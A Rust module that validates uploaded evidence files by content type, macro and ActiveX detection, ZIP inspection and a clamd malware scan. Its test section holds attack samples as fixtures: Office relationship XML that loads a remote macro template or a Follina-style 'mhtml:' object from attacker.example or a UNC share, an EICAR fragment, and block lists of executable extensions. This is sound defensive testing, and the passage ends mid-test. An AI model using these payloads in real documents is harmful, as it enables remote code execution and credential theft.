//! Checks on an uploaded evidence file: its type decided by its content,
//! no programs, scripts or Office macros, and, when configured, a malware
//! scan by clamd (checklist item 58).

use std::io::{Cursor, Read};
use std::path::PathBuf;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The kinds of file accepted as evidence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Pdf,
    Png,
    Jpeg,
    Xlsx,
    Docx,
    Pptx,
    Zip,
    Csv,
    Txt,
}

impl Kind {
    pub fn content_type(self) -> &'static str {
        match self {
            Kind::Pdf => "application/pdf",
            Kind::Png => "image/png",
            Kind::Jpeg => "image/jpeg",
            Kind::Xlsx => crate::export::XLSX_CONTENT_TYPE,
            Kind::Docx => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            Kind::Pptx => "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            Kind::Zip => "application/zip",
            Kind::Csv => "text/csv",
            Kind::Txt => "text/plain",
        }
    }

    /// The extensions a file of this kind may have; the first is the one a
    /// download name gets when its own does not fit.
    pub fn extensions(self) -> &'static [&'static str] {
        match self {
            Kind::Pdf => &["pdf"],
            Kind::Png => &["png"],
            Kind::Jpeg => &["jpg", "jpeg"],
            Kind::Xlsx => &["xlsx"],
            Kind::Docx => &["docx"],
            Kind::Pptx => &["pptx"],
            Kind::Zip => &["zip"],
            Kind::Csv => &["csv"],
            Kind::Txt => &["txt"],
        }
    }
}

/// Why an upload is refused before the malware scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Refusal {
    /// A program or script by its name, whatever the content.
    Executable,
    /// An Office file with macros, by its name or by its content.
    Macro,
    /// Content of none of the accepted kinds.
    Type,
    /// A ZIP holding a program, a script, an Office file with macros, or
    /// another archive (whose content this check cannot see), by name.
    ZipContent,
    /// A ZIP of more than [`MAX_ZIP_ENTRIES`] entries.
    ZipEntries,
    /// An Office file that loads something from elsewhere when opened (a
    /// remote template, a linked object) or carries a program in an
    /// embedded OLE object or an ActiveX control.
    Active,
    /// A ZIP with an encrypted entry, or one larger than the malware scan
    /// reads: what it holds could not be scanned.
    Unscannable,
    /// A CSV file (or one inside a ZIP) with a cell Excel would run as a
    /// formula ([`crate::formula`]), at `row` and `column`.
    Formula { row: u32, column: u32, inside_zip: bool },
}

impl Refusal {
    /// The reason recorded in the audit log.
    pub fn reason(self) -> &'static str {
        match self {
            Refusal::Executable => "executable",
            Refusal::Macro => "macro",
            Refusal::Type => "type",
            Refusal::ZipContent => "zip_content",
            Refusal::ZipEntries => "zip_entries",
            Refusal::Active => "office_active",
            Refusal::Unscannable => "unscannable",
            Refusal::Formula { .. } => "formula",
        }
    }

    /// The translation key of the message shown to the uploader.
    pub fn message_key(self) -> &'static str {
        match self {
            Refusal::Executable => "evidence-executable",
            Refusal::Macro => "evidence-macro",
            Refusal::Type => "evidence-bad-type",
            Refusal::ZipContent => "evidence-zip-content",
            Refusal::ZipEntries => "evidence-zip-entries",
            Refusal::Active => "evidence-office-active",
            Refusal::Unscannable => "evidence-unscannable",
            Refusal::Formula { inside_zip: false, .. } => "evidence-formula",
            Refusal::Formula { inside_zip: true, .. } => "evidence-zip-formula",
        }
    }
}

/// Extensions of programs, scripts, shortcuts and installers: a file whose
/// name ends in one of them is refused whatever its content, because the
/// name decides what happens when someone opens the downloaded file.
#[rustfmt::skip]
const EXECUTABLE: &[&str] = &[
    // Windows programs, libraries, installers and control panel items
    "exe", "dll", "com", "scr", "pif", "cpl", "msc", "msi", "msp", "mst", "sys", "drv", "ocx", "xll",
    // Windows scripts and script hosts
    "bat", "cmd", "ps1", "ps1xml", "ps2", "ps2xml", "psc1", "psc2", "psd1", "psm1", "vb", "vbs", "vbe", "js", "jse",
    "wsf", "wsh", "wsc", "ws", "hta", "sct", "inf", "reg", "scf",
    // shortcuts and Windows shell files that run something
    "lnk", "url", "website", "library-ms", "search-ms", "searchconnector-ms", "settingcontent-ms", "application",
    "appref-ms", "gadget", "chm", "hlp",
    // packages and disk images that carry programs past the download mark
    "appx", "appxbundle", "msix", "msixbundle", "iso", "img", "vhd", "vhdx",
    // other platforms and runtimes
    "jar", "jnlp", "class", "apk", "app", "dmg", "pkg", "deb", "rpm", "run", "sh", "bash", "zsh", "csh", "ksh",
    "command", "py", "pyw", "pyc", "pl", "rb", "php",
];

/// Extensions of Office formats that carry VBA macros.
const MACRO_ENABLED: &[&str] = &["xlsm", "xltm", "xlam", "docm", "dotm", "pptm", "potm", "ppsm", "ppam", "sldm"];

/// Archives: one inside a ZIP would carry past [`admit`] what it cannot see.
const ARCHIVES: &[&str] = &["zip", "7z", "rar", "lzh", "lha", "cab", "arj", "tar", "gz", "tgz", "bz2", "xz", "zst"];

/// What is refused at the top level by its content (older Office formats,
/// which may carry macros; OneNote; query and link files Office runs) or
/// accepted there only as text under a `.txt` name (web pages), and would
/// open as what they are once taken out of a ZIP.
#[rustfmt::skip]
const ACTIVE_INSIDE: &[&str] = &[
    "xls", "xlt", "xla", "xlsb", "doc", "dot", "ppt", "pot", "pps", "ppa", "one", "onepkg", "slk", "iqy", "dqy",
    "rqy", "oqy", "mdb", "mde", "accdb", "accde", "accdr", "bas", "shs", "shb", "msu", "diagcab", "xbap",
    "html", "htm", "xhtml", "mht", "mhtml", "svg", "svgz",
];

/// The most a ZIP's entries may hold once inflated, together and each:
/// past it the malware scan (ClamAV 1.x's `MaxScanSize` and
/// `MaxFileSize`, 400 MB and 100 MB by default) stops reading and answers
/// clean.
pub const MAX_ZIP_INFLATED: u64 = 400 * 1024 * 1024;
/// See [`MAX_ZIP_INFLATED`].
pub const MAX_ZIP_ENTRY_INFLATED: u64 = 100 * 1024 * 1024;

/// Characters a file name must not carry ([`mamori_core::text::hidden`]),
/// so that a name shows what the file is.
pub use mamori_core::text::hidden as hidden_in_names;

/// The last extension of a name as Windows reads it (trailing dots and
/// spaces dropped), in lower case; `None` when there is none.
fn extension(name: &str) -> Option<String> {
    let (_, ext) = name.trim_end_matches(['.', ' ']).rsplit_once('.')?;
    (!ext.is_empty()).then(|| ext.to_ascii_lowercase())
}

/// Decides whether an upload is accepted, and as what: programs and
/// scripts are refused by their name whatever the content, Office files
/// with macros by their name or by a VBA project inside, and everything
/// else by [`sniff`].
pub fn admit(bytes: &[u8], name: &str) -> Result<Kind, Refusal> {
    match extension(name) {
        Some(ext) if EXECUTABLE.contains(&ext.as_str()) => return Err(Refusal::Executable),
        Some(ext) if MACRO_ENABLED.contains(&ext.as_str()) => return Err(Refusal::Macro),
        _ => {}
    }
    if bytes.starts_with(b"PK\x03\x04") && !zip_entries_within(bytes) {
        return Err(Refusal::ZipEntries);
    }
    if bytes.starts_with(b"PK\x03\x04") && names_twice(bytes) {
        return Err(Refusal::Unscannable);
    }
    let kind = sniff(bytes, name).ok_or(Refusal::Type)?;
    if matches!(kind, Kind::Xlsx | Kind::Docx | Kind::Pptx | Kind::Zip) && has_macros(bytes)? {
        return Err(Refusal::Macro);
    }
    if matches!(kind, Kind::Xlsx | Kind::Docx | Kind::Pptx) && office_active(bytes)? {
        return Err(Refusal::Active);
    }
    if kind == Kind::Csv {
        formula_free(bytes, false)?;
    }
    if kind == Kind::Zip {
        // What cannot be read (an encrypted entry) is said first: the
        // Office files inside are opened below.
        if !scannable(bytes)? {
            return Err(Refusal::Unscannable);
        }
        if refused_inside(bytes)? {
            return Err(Refusal::ZipContent);
        }
    }
    Ok(kind)
}

/// The most entries a ZIP (an Office file included) may hold. The zip
/// reader keeps every entry of the directory in memory, a few hundred bytes
/// each, and reads the directory again for each look inside: 20 MB of empty
/// entries are 400,000 of them, 100 MB or more held by one upload.
pub const MAX_ZIP_ENTRIES: usize = 10_000;

/// Does a ZIP hold no more than [`MAX_ZIP_ENTRIES`] entries? Counted before
/// the zip reader is let at it, by the entries' headers in its directory
/// (`PK\x01\x02`, which the reader requires of each): a count the end of
/// the file declares could lie, and a chance match in compressed data only
/// counts one more.
fn zip_entries_within(bytes: &[u8]) -> bool {
    bytes.windows(4).filter(|w| *w == b"PK\x01\x02").take(MAX_ZIP_ENTRIES + 1).count() <= MAX_ZIP_ENTRIES
}

/// Office Open XML files without macros by their name: inside a ZIP they
/// are opened and held to what one uploaded alone is held to.
const OFFICE_INSIDE: &[&str] = &["docx", "dotx", "xlsx", "xltx", "pptx", "potx", "ppsx"];

/// Most of the Office files inside a ZIP that is read, together; past it
/// the ZIP is refused as one the checks cannot read.
const OFFICE_INSIDE_LIMIT: u64 = 64 * 1024 * 1024;

/// Most Office files inside a ZIP that are opened: each is read for its
/// declarations and relationships too (up to 5 MB inflated), so a ZIP of
/// thousands of small ones would make gigabytes of work. More are refused
/// as a ZIP the checks cannot read.
const MAX_OFFICE_INSIDE: usize = 20;

/// Does a ZIP name one entry twice? The zip reader keeps the last of each
/// name, so an earlier one (a macro file behind a clean one of the same
/// name, which an extractor may write out) would never be looked at.
/// Nothing that makes Office files or ZIPs writes such a thing.
fn names_twice(bytes: &[u8]) -> bool {
    zip::ZipArchive::new(Cursor::new(bytes)).is_ok_and(|z| z.has_duplicate_names())
}

/// Does a (non-Office) ZIP hold, by the names of its entries, what would be
/// refused on its own, what opens as something active once taken out
/// ([`ACTIVE_INSIDE`]), or another archive? Without this, a program was
/// accepted as evidence by zipping it. A name with a character that hides
/// what it is (`setup.exe\0.pdf`, which an extractor writes as `setup.exe`)
/// is refused, not read past. An Office file inside is opened: one with
/// macros or that reaches out ([`office_active`]) is refused as it would be
/// alone, and so is one that cannot be read as Office.
fn refused_inside(bytes: &[u8]) -> Result<bool, Refusal> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
    let names: Vec<String> =
        zip.file_names().map(|n| n.map(|n| n.into_owned())).collect::<Result<_, _>>().map_err(|_| Refusal::Type)?;
    let mut budget = OFFICE_INSIDE_LIMIT;
    let mut opened = 0;
    for name in &names {
        if name.chars().any(|c| c.is_control() || hidden_in_names(c)) {
            return Ok(true);
        }
        let last = name.rsplit(['/', '\\']).next().unwrap_or(name);
        let Some(ext) = extension(last) else { continue };
        if [EXECUTABLE, MACRO_ENABLED, ARCHIVES, ACTIVE_INSIDE].iter().any(|list| list.contains(&ext.as_str())) {
            return Ok(true);
        }
        if ext == "csv" {
            // Read as it inflates, within what the malware scan reads.
            let entry = zip.by_name(name).map_err(|_| Refusal::Unscannable)?;
            formula_free(entry.take(MAX_ZIP_ENTRY_INFLATED), true)?;
        }
        if OFFICE_INSIDE.contains(&ext.as_str()) {
            opened += 1;
            if opened > MAX_OFFICE_INSIDE {
                return Err(Refusal::Unscannable);
            }
            let mut inner = Vec::new();
            let entry = zip.by_name(name).map_err(|_| Refusal::Unscannable)?;
            entry.take(budget + 1).read_to_end(&mut inner).map_err(|_| Refusal::Unscannable)?;
            budget = budget.checked_sub(inner.len() as u64).ok_or(Refusal::Unscannable)?;
            let office = inner.starts_with(b"PK\x03\x04") && zip_entries_within(&inner) && !names_twice(&inner);
            if !office || has_macros(&inner).unwrap_or(true) || office_active(&inner).unwrap_or(true) {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

/// Refuses a CSV with a cell Excel would run as a formula.
fn formula_free(csv: impl Read, inside_zip: bool) -> Result<(), Refusal> {
    match crate::formula::first_formula(csv) {
        Ok(None) => Ok(()),
        Ok(Some(at)) => Err(Refusal::Formula { row: at.row, column: at.column, inside_zip }),
        Err(_) => Err(Refusal::Unscannable),
    }
}

/// Can the malware scan read all of a ZIP? Not when an entry is encrypted
/// (ClamAV answers clean for what it cannot open), nor when the entries
/// declare more than [`MAX_ZIP_INFLATED`] together or
/// [`MAX_ZIP_ENTRY_INFLATED`] one (ClamAV stops reading past its limits and
/// answers clean). A declared size that lies is the scan's to find: it
/// reads what is there.
fn scannable(bytes: &[u8]) -> Result<bool, Refusal> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
    let mut total = 0u64;
    for i in 0..zip.len() {
        let entry = zip.by_index_raw(i).map_err(|_| Refusal::Type)?;
        total = total.saturating_add(entry.size());
        if entry.encrypted() || entry.size() > MAX_ZIP_ENTRY_INFLATED || total > MAX_ZIP_INFLATED {
            return Ok(false);
        }
    }
    Ok(true)
}

/// Does one relationship (its element's attribute text) load something
/// from another machine when the file is opened? Only one whose
/// `TargetMode` is `External` (any spelling an XML reader reads so: an
/// entity, any case), whose `Type` is not a hyperlink's, and whose `Target`
/// is not a file on this computer: a template a document was made from
/// (`file:///C:/…`, a local path) is what any 様式 leaves, a remote one
/// (`https://`, `\\server\share`, `file://server/`) brings macros or sends
/// the reader's credentials.
fn reaches_out(element: &str) -> bool {
    let lower = element.to_ascii_lowercase();
    let value = |name: &str| {
        let at = lower.match_indices(name).find(|(i, _)| {
            element[..*i].ends_with(|c: char| c.is_whitespace())
                && lower[i + name.len()..].trim_start().starts_with('=')
        })?;
        let rest = element[at.0 + name.len()..].trim_start().strip_prefix('=')?.trim_start();
        let quote = rest.chars().next().filter(|q| *q == '"' || *q == '\'')?;
        Some(rest[1..].split(quote).next().unwrap_or("").to_owned())
    };
    let mode = value("targetmode").unwrap_or_default();
    if !(mode.contains('&') || mode.eq_ignore_ascii_case("external")) {
        return false;
    }
    let kind = value("type").unwrap_or_default();
    if kind.ends_with("/relationships/hyperlink") && !kind.contains('&') {
        return false;
    }
    let target = value("target").unwrap_or_default().to_ascii_lowercase().replace('\\', "/");
    let local_drive = |t: &str| t.as_bytes().get(1) == Some(&b':') && t.as_bytes()[0].is_ascii_alphabetic();
    let local = match target.strip_prefix("file:///") {
        Some(path) => local_drive(path),
        None => !target.contains(':') && !target.starts_with("//") || local_drive(&target),
    };
    !local || target.contains('&')
}

/// Most of an Office file's relationship parts that is read, together.
const RELATIONSHIPS_LIMIT: u64 = 4 * 1024 * 1024;

/// Does an Office file do something beyond showing itself when opened?
/// A relationship to something outside the file other than a hyperlink (a
/// remote template that brings macros, a linked OLE object as in the
/// "Follina" attack, a linked picture that sends the reader's Windows
/// credentials to a `file://` server), an embedded OLE object (`.bin`:
/// the OLE Package that holds a program, the old Equation Editor's), or
/// an ActiveX control. Relationship parts beyond [`RELATIONSHIPS_LIMIT`]
/// together are refused as unknown.
fn office_active(bytes: &[u8]) -> Result<bool, Refusal> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
    let names: Vec<String> =
        zip.file_names().map(|n| n.map(|n| n.into_owned())).collect::<Result<_, _>>().map_err(|_| Refusal::Type)?;
    let mut budget = RELATIONSHIPS_LIMIT;
    for name in &names {
        let lower = name.to_ascii_lowercase();
        let folder = |f: &str| lower.split(['/', '\\']).any(|part| part == f);
        if folder("activex") || (folder("embeddings") && lower.ends_with(".bin")) {
            return Ok(true);
        }
        if !lower.ends_with(".rels") {
            continue;
        }
        let mut text = Vec::new();
        let entry = zip.by_name(name).map_err(|_| Refusal::Type)?;
        entry.take(budget + 1).read_to_end(&mut text).map_err(|_| Refusal::Type)?;
        budget = budget.checked_sub(text.len() as u64).ok_or(Refusal::Type)?;
        let text = String::from_utf8_lossy(&text).into_owned();
        if text.split("<Relationship").skip(1).any(|r| reaches_out(r.split('>').next().unwrap_or(r))) {
            return Ok(true);
        }
    }
    Ok(false)
}

/// Most of `[Content_Types].xml` that is read; a real one is a few kB.
const CONTENT_TYPES_LIMIT: u64 = 1024 * 1024;

/// Does this zip carry a VBA project? Any entry named `vbaProject.bin` in
/// any folder, or a VBA or macro-enabled part declared in
/// `[Content_Types].xml` (a renamed part still declares its type), case
/// ignored. A zip whose declaration cannot be read, or that has more than
/// one, is refused as unknown.
fn has_macros(bytes: &[u8]) -> Result<bool, Refusal> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| Refusal::Type)?;
    let names: Vec<String> =
        zip.file_names().map(|n| n.map(|n| n.into_owned())).collect::<Result<_, _>>().map_err(|_| Refusal::Type)?;
    let last = |n: &str| n.rsplit(['/', '\\']).next().unwrap_or(n).to_ascii_lowercase();
    if names.iter().any(|n| last(n) == "vbaproject.bin") {
        return Ok(true);
    }
    let declarations: Vec<&String> = names.iter().filter(|n| n.eq_ignore_ascii_case("[Content_Types].xml")).collect();
    // A real one declares its types once. Each of thousands of case
    // variants, read up to the limit, would be gigabytes to inflate.
    if declarations.len() > 1 {
        return Err(Refusal::Type);
    }
    for name in declarations {
        let mut text = Vec::new();
        let entry = zip.by_name(name).map_err(|_| Refusal::Type)?;
        entry.take(CONTENT_TYPES_LIMIT).read_to_end(&mut text).map_err(|_| Refusal::Type)?;
        let text = String::from_utf8_lossy(&text).to_ascii_lowercase();
        if text.contains("vbaproject") || text.contains("macroenabled") {
            return Ok(true);
        }
    }
    Ok(false)
}

/// The name a file is downloaded under: its own when its extension fits the
/// kind its content has, otherwise with the kind's extension appended, so
/// the name can never make the receiver's computer run a file as something
/// it is not (`x.hta` holding text is sent as `x.hta.txt`). Content of no
/// known kind gets `.bin`. Trailing dots and spaces, which Windows drops,
/// are dropped first, and so are characters [`hidden_in_names`].
pub fn download_name(original: &str, kind: Option<Kind>) -> String {
    let original: String = original.chars().filter(|c| !hidden_in_names(*c)).collect();
    let name = original.trim_end_matches(['.', ' ']);
    let name = if name.is_empty() { "file" } else { name };
    let fits = match (kind, extension(name)) {
        (Some(kind), Some(ext)) => kind.extensions().contains(&ext.as_str()),
        _ => false,
    };
    match kind {
        _ if fits => name.to_owned(),
        Some(kind) => format!("{name}.{}", kind.extensions()[0]),
        None => format!("{name}.bin"),
    }
}

/// The file's kind from its bytes; the name only tells CSV from TXT among
/// text files. Anything else is refused. Written by hand: the list is
/// short, and Office files need a look inside the zip, which sniffing
/// crates do not do reliably.
pub fn sniff(bytes: &[u8], name: &str) -> Option<Kind> {
    if bytes.starts_with(b"%PDF-") {
        return Some(Kind::Pdf);
    }
    if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        return Some(Kind::Png);
    }
    if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
        return Some(Kind::Jpeg);
    }
    if bytes.starts_with(b"PK\x03\x04") {
        let zip = zip::ZipArchive::new(Cursor::new(bytes)).ok()?;
        let names: Vec<String> = zip.file_names().filter_map(|n| n.ok().map(|n| n.into_owned())).collect();
        let office = names.iter().any(|n| n == "[Content_Types].xml");
        return Some(if office && names.iter().any(|n| n.starts_with("xl/")) {
            Kind::Xlsx
        } else if office && names.iter().any(|n| n.starts_with("word/")) {
            Kind::Docx
        } else if office && names.iter().any(|n| n.starts_with("ppt/")) {
            Kind::Pptx
        } else {
            Kind::Zip
        });
    }
    // Text: UTF-8 or Shift_JIS, no NUL and no control characters but tab,
    // line ends and form feed.
    let text_like = !bytes.is_empty()
        && !bytes.iter().any(|b| *b == 0 || (*b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c)));
    let decodes = std::str::from_utf8(bytes).is_ok() || !encoding_rs::SHIFT_JIS.decode_without_bom_handling(bytes).1;
    if text_like && decodes {
        return Some(if name.to_ascii_lowercase().ends_with(".csv") { Kind::Csv } else { Kind::Txt });
    }
    None
}

/// Where clamd listens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Clamd {
    Unix(PathBuf),
    Tcp(String),
}

impl Clamd {
    /// `unix:/run/clamav/clamd.ctl` or `tcp:127.0.0.1:3310`.
    pub fn parse(s: &str) -> Option<Clamd> {
        if let Some(p) = s.strip_prefix("unix:") {
            return Some(Clamd::Unix(PathBuf::from(p)));
        }
        s.strip_prefix("tcp:").filter(|a| !a.is_empty()).map(|a| Clamd::Tcp(a.to_owned()))
    }
}

#[derive(Debug, PartialEq, Eq)]
pub enum ScanResult {
    Clean,
    Infected(String),
}

const CHUNK: usize = 64 * 1024;

/// Streams `bytes` to clamd with INSTREAM and reads the verdict within
/// `within` (an error past it). clamd's protocol is a few lines; this
/// avoids a dependency for it.
pub async fn scan(clamd: &Clamd, bytes: &[u8], within: Duration) -> Result<ScanResult, String> {
    let talk = async {
        let reply = match clamd {
            Clamd::Unix(path) => {
                exchange(tokio::net::UnixStream::connect(path).await.map_err(|e| e.to_string())?, bytes).await?
            }
            Clamd::Tcp(addr) => {
                exchange(tokio::net::TcpStream::connect(addr).await.map_err(|e| e.to_string())?, bytes).await?
            }
        };
        let reply = reply.trim_end_matches(['\0', '\n']).to_owned();
        if reply.ends_with("OK") {
            Ok(ScanResult::Clean)
        } else if let Some(sig) = reply.strip_suffix(" FOUND") {
            Ok(ScanResult::Infected(sig.trim_start_matches("stream: ").to_owned()))
        } else {
            Err(format!("clamd answered: {reply}"))
        }
    };
    tokio::time::timeout(within, talk).await.map_err(|_| format!("clamd did not answer within {within:?}"))?
}

async fn exchange<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(
    mut s: S,
    bytes: &[u8],
) -> Result<String, String> {
    let io = |e: std::io::Error| e.to_string();
    s.write_all(b"zINSTREAM\0").await.map_err(io)?;
    for chunk in bytes.chunks(CHUNK) {
        s.write_all(&(chunk.len() as u32).to_be_bytes()).await.map_err(io)?;
        s.write_all(chunk).await.map_err(io)?;
    }
    s.write_all(&0u32.to_be_bytes()).await.map_err(io)?;
    let mut reply = Vec::new();
    s.read_to_end(&mut reply).await.map_err(io)?;
    Ok(String::from_utf8_lossy(&reply).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn types_come_from_the_content() {
        assert_eq!(sniff(b"%PDF-1.7 ...", "x.txt"), Some(Kind::Pdf));
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\nrest", "x.pdf"), Some(Kind::Png));
        assert_eq!(sniff(&[0xFF, 0xD8, 0xFF, 0xE0], "a"), Some(Kind::Jpeg));
        assert_eq!(sniff("名前,値\n".as_bytes(), "表.CSV"), Some(Kind::Csv));
        assert_eq!(sniff("メモ".as_bytes(), "memo.txt"), Some(Kind::Txt));
        assert_eq!(sniff(&encoding_rs::SHIFT_JIS.encode("設定").0, "s.txt"), Some(Kind::Txt));
        let xlsx = crate::export::xlsx_bytes("s", &["a".into()], &[]).unwrap();
        assert_eq!(sniff(&xlsx, "renamed.pdf"), Some(Kind::Xlsx));
        // An executable named like a PDF, and binary junk, are refused.
        assert_eq!(sniff(b"MZ\x90\x00\x03\x00\x00\x00", "report.pdf"), None);
        assert_eq!(sniff(b"\x7fELF\x02\x01\x01\x00", "x.txt"), None);
        assert_eq!(sniff(b"", "empty.txt"), None);
    }

    /// A zip holding `entries` (name, content), as an Office file or any zip is.
    fn zip_of(entries: &[(&str, &str)]) -> Vec<u8> {
        let entries: Vec<(&str, &[u8])> = entries.iter().map(|(n, c)| (*n, c.as_bytes())).collect();
        zip_of_bytes(&entries)
    }

    /// A zip that names an entry twice, as the zip writer refuses to make:
    /// `entries` written with distinct names of the same length, the
    /// second's name then overwritten with the first's.
    fn twice(entries: &[(&str, &[u8]); 2]) -> Vec<u8> {
        let (first, second) = (entries[0].0, format!("{}~", &entries[0].0[..entries[0].0.len() - 1]));
        assert_eq!(first.len(), second.len());
        let mut bytes = zip_of_bytes(&[(first, entries[0].1), (&second, entries[1].1)]);
        let mut at = 0;
        while let Some(i) = bytes[at..].windows(second.len()).position(|w| w == second.as_bytes()) {
            bytes[at + i..at + i + second.len()].copy_from_slice(first.as_bytes());
            at += i + second.len();
        }
        bytes
    }

    fn zip_of_bytes(entries: &[(&str, &[u8])]) -> Vec<u8> {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, content) in entries {
            w.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            w.write_all(content).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    const CONTENT_TYPES: &str = r#"<Types><Default Extension="xml" ContentType="application/xml"/></Types>"#;

    #[test]
    fn programs_scripts_and_macros_are_refused_whatever_the_content() {
        let pdf = b"%PDF-1.7\n%%EOF\n".to_vec();
        let text = b"<script>alert(1)</script>".to_vec();
        let xlsx = crate::export::xlsx_bytes("s", &["a".into()], &[]).unwrap();
        let vba_in_xl =
            zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("xl/workbook.xml", ""), ("xl/vbaProject.bin", "")]);
        let vba_upper =
            zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", ""), ("WORD/VBAPROJECT.BIN", "")]);
        let vba_renamed = zip_of(&[
            (
                "[Content_Types].xml",
                r#"<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#,
            ),
            ("xl/workbook.xml", ""),
            ("xl/data.bin", ""),
        ]);
        let macro_main = zip_of(&[
            (
                "[content_types].XML",
                r#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"#,
            ),
            ("xl/workbook.xml", ""),
        ]);
        let vba_in_plain_zip = zip_of(&[("a/b/vbaproject.bin", "")]);
        let plain_zip = zip_of(&[("notes/readme.txt", "vbaProject.bin is mentioned, not included")]);
        let cases: &[(&str, &[u8], Result<Kind, Refusal>)] = &[
            ("report.pdf", &pdf, Ok(Kind::Pdf)),
            ("a.exe.pdf", &pdf, Ok(Kind::Pdf)),
            ("memo.hta.txt", &text, Ok(Kind::Txt)),
            ("book.xlsx", &xlsx, Ok(Kind::Xlsx)),
            ("archive.zip", &plain_zip, Ok(Kind::Zip)),
            // programs and scripts: by the last extension, case, trailing dots and spaces ignored
            ("x.hta", &text, Err(Refusal::Executable)),
            ("setup.EXE", &pdf, Err(Refusal::Executable)),
            ("run.bat.", &text, Err(Refusal::Executable)),
            ("deploy.ps1 ", &text, Err(Refusal::Executable)),
            ("report.pdf.js", &text, Err(Refusal::Executable)),
            (".hta", &text, Err(Refusal::Executable)),
            ("shortcut.lnk", &text, Err(Refusal::Executable)),
            ("install.sh", &text, Err(Refusal::Executable)),
            ("tool.jar", &plain_zip, Err(Refusal::Executable)),
            // macro-enabled Office files: by name, whatever the content
            ("book.xlsm", &xlsx, Err(Refusal::Macro)),
            ("deck.PPTM", &plain_zip, Err(Refusal::Macro)),
            ("letter.docm", &text, Err(Refusal::Macro)),
            // and by content, whatever the name
            ("book.xlsx", &vba_in_xl, Err(Refusal::Macro)),
            ("report.pdf", &vba_upper, Err(Refusal::Macro)),
            ("book.xlsx", &vba_renamed, Err(Refusal::Macro)),
            ("book.xlsx", &macro_main, Err(Refusal::Macro)),
            ("archive.zip", &vba_in_plain_zip, Err(Refusal::Macro)),
            // content of no accepted kind
            ("report.pdf", b"MZ\x90\x00\x03\x00", Err(Refusal::Type)),
        ];
        for (name, bytes, want) in cases {
            assert_eq!(admit(bytes, name), *want, "{name}");
        }
        for ext in MACRO_ENABLED {
            assert_eq!(admit(&xlsx, &format!("x.{ext}")), Err(Refusal::Macro), "{ext}");
        }
        for ext in EXECUTABLE {
            assert_eq!(admit(&pdf, &format!("x.{ext}")), Err(Refusal::Executable), "{ext}");
        }
    }

    /// An Office file that fetches a template with macros when opened, or
    /// runs a linked object ("Follina"), or carries a program in an
    /// embedded OLE object, held no macro and was accepted; so was a ZIP
    /// holding an old `.xls` with macros, a web page, a name hiding a
    /// program behind a NUL, or entries the malware scan cannot read.
    #[test]
    fn office_files_that_reach_out_or_embed_objects_and_zips_the_scan_cannot_read_are_refused() {
        let rels = |body: &str| {
            format!(
                r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>"#
            )
        };
        let template = rels(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>"#,
        );
        let ole = rels(
            r#"<Relationship Id='rId9' TargetMode = 'External' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Target='mhtml:http://attacker.example/x!x'/>"#,
        );
        let link = rels(
            r#"<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>"#,
        );
        let local_template = rels(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\yamada\Templates\様式第1号.dotx" TargetMode="External"/>"#,
        );
        let disguised = rels(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/relationships/hyperlink/t.dotm" TargetMode="External"/>"#,
        );
        let entity = rels(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="&#69;xternal"/>"#,
        );
        let unc = rels(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\attacker.example\share\t.dotm" TargetMode="External"/>"#,
        );
        let docx = |part: &str, content: &str| {
            zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", ""), (part, content)])
        };
        let big = "\0".repeat(101 * 1024 * 1024);
        let encrypted = {
            use std::io::Write;
            let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
            let options =
                zip::write::SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "password");
            w.start_file("report.txt", options).unwrap();
            w.write_all(b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR").unwrap();
            w.finish().unwrap().into_inner()
        };
        let cases: Vec<(&str, Vec<u8>, Result<Kind, Refusal>)> = vec![
            ("手順書.docx", docx("word/_rels/settings.xml.rels", &template), Err(Refusal::Active)),
            ("手順書.docx", docx("word/_rels/document.xml.rels", &ole), Err(Refusal::Active)),
